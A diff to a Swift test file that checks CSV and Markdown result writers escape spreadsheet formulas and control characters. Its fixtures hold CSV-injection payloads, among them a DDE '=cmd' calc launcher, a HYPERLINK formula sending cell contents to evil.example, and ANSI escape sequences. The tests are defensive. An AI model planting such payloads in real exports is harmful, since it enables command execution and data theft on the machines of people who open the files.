@@ -93,12 +93,60 @@ struct WriterTests {
             let bars = row.replacingOccurrences(of: "\\|", with: "").filter { $0 == "|" }.count
             #expect(bars == 15, "\(row)")
         }
-        #expect(rows[1].contains("≈ 50.00 mJ") && rows[1].contains("1.00"))
-        #expect(rows[3].contains("80.00 mJ") && !rows[3].contains("≈"))
+        #expect(rows[1].contains("≈ 50.0 mJ") && rows[1].contains("1.00"))
+        #expect(rows[3].contains("80.0 mJ") && !rows[3].contains("≈"))
         #expect(rows[1].contains("| modelled |") && rows[3].contains("| measured |"))
         #expect(rows[2].contains("|  |  |") && !rows[2].contains("| 0"))
         #expect(rows[4].contains("faster") && rows[4].contains("≈ cheaper"))
         #expect(text.contains("≈ marks energy that is computed by a model"))
+    }
+
+    private func hostile() throws -> RunRecord {
+        let path = URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
+            .appending(path: "Fixtures/results/formulas-and-escapes.json").path
+        var run = try RunFile.read(path)
+        var other = try #require(run.measurements.first)
+        (other.strategy, other.workload) = ("\u{1B}[31mred\u{7}", "-1")
+        (other.message, other.codePath) = ("\t=1+1\r\n\u{9B}2J", " ＝1+1")
+        run.measurements.append(other)
+        return run
+    }
+
+    @Test(
+        "CSV: what a spreadsheet would take for a formula is text, control characters are visible, numbers stay numbers"
+    )
+    func formulasInCSV() throws {
+        let text = CSVWriter.text(of: try hostile())
+        let rows = parse(text)
+        func fields(_ name: String) throws -> [String] {
+            let column = try #require(rows[0].firstIndex(of: name))
+            return rows.dropFirst().map { $0[column] }
+        }
+        #expect(try fields("family")[0] == "'+1+1")
+        #expect(try fields("strategy") == ["'=cmd|' /C calc'!A0", "\u{FFFD}[31mred\u{FFFD}"])
+        #expect(try fields("workload") == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")", "-1"])
+        #expect(try fields("message") == ["'@SUM(1+1)*cmd", "'\t=1+1\u{FFFD}\n\u{FFFD}2J"])
+        #expect(try fields("codePath")[1] == "' ＝1+1")
+        #expect(try fields("grossJoules")[0] == "0.029948450476408376")
+        for row in rows.dropFirst() {
+            for field in row where !field.isEmpty { #expect(!"=+@\t\r".contains(field.first ?? " "), "\(field)") }
+        }
+        #expect(
+            !text.unicodeScalars.contains { ($0.value < 32 && $0 != "\n" && $0 != "\t") || (127..<160) ~= $0.value })
+    }
+
+    @Test("Markdown: the same, in every cell")
+    func formulasInMarkdown() throws {
+        let text = MarkdownWriter.text(of: try hostile())
+        let rows = text.split(separator: "\n").filter { $0.hasPrefix("|") }.dropFirst(2)
+        #expect(rows.count == 2 && rows.first?.hasPrefix("| '+1+1/=cmd\\|' /C calc'!A0 | '=HYPERLINK(") == true)
+        #expect(rows.last?.contains("| -1 |") == true)
+        for row in rows {
+            for cell in row.replacing("\\|", with: "").split(separator: "|") {
+                #expect(!"=+@\t".contains(cell.drop { $0 == " " }.first ?? " "), "\(cell)")
+            }
+        }
+        #expect(!text.unicodeScalars.contains { ($0.value < 32 && $0 != "\n") || (127..<160) ~= $0.value })
     }
 
     @Test("the trace is JSON with the windows at their times and the samples end to end")
@@ -130,29 +178,6 @@ struct WriterTests {
         #expect(parse(CSVWriter.text(of: run)).count == 1)
         #expect(!MarkdownWriter.text(of: run).contains("≈"))
         #expect(try TraceWriter.text(of: run).contains("traceEvents"))
-    }
-
-    @Test(
-        "quantities have four digits and a prefix",
-        arguments: [
-            (0.001234567, "1.235 ms"), (0.00099996, "1.000 ms"), (1.0, "1.000 s"), (0, "0 s"), (59999.6, "60.00 ks"),
-            (-2.5e-7, "-250.0 ns"), (999.96, "1.000 ks"), (3e-13, "0.3000 ps"), (.nan, "-"), (.infinity, "-"),
-            (1e-15, "0.001000 ps"), (2.5e-16, "2.5e-16 s"),
-            (-1e-40, "-1e-40 s"), (.leastNormalMagnitude, "2.2250738585072014e-308 s"),
-            (.leastNonzeroMagnitude, "5e-324 s"), (1.5e300, "1.5e+285 Ps"),
-        ])
-    func quantities(value: Double, text: String) {
-        #expect(FormattedQuantity.si(value, "s") == text)
-    }
-
-    @Test(
-        "figures without a unit have four digits, and an exponent where these would stand far behind the point",
-        arguments: [
-            (2.0312, "2.031"), (9.9996, "10.00"), (1e-12, "0.000000000001000"), (1e-15, "0.000000000000001000"),
-            (1e-16, "1e-16"), (.leastNonzeroMagnitude, "5e-324"), (.nan, "-"),
-        ])
-    func significant(value: Double, text: String) {
-        #expect(FormattedQuantity.significant(value) == text)
     }
 
     @Test(
